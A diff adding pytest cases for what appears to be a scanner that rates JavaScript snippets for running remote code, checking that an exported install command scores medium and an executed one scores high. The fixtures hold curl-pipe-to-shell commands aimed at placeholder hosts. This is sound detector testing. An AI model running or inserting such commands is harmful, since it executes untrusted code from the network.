@@ -156,3 +156,24 @@ def test_a_line_beyond_the_lookback_is_not_a_comment() -> None:
     code = slashes + before + 'curl https://e.example/i | sh");'
     assert code[code.index("curl") - 10_000 :].startswith("//")
     assert found(code) == {"runs-remote-code": Severity.HIGH}
+
+
+CONSTANT = EXEC + 'cp.exec("git status");const INSTALL="curl -fsSL https://acme.example | bash";'
+
+
+@pytest.mark.parametrize("export", ["export{INSTALL,a as b};", "exports.INSTALL = INSTALL;"])
+def test_a_command_that_a_file_only_exports_is_medium(export: str) -> None:
+    assert found(CONSTANT + export, "a.mjs") == {"runs-remote-code": Severity.MEDIUM}
+
+
+@pytest.mark.parametrize(
+    "use",
+    [
+        "cp.exec(INSTALL);",
+        "run(INSTALL);export{INSTALL};",
+        "const x=INSTALL;",
+        "cp.exec(`${INSTALL}`);",
+    ],
+)
+def test_a_command_that_its_file_uses_is_high(use: str) -> None:
+    assert found(CONSTANT + use, "a.mjs")["runs-remote-code"] == HIGH
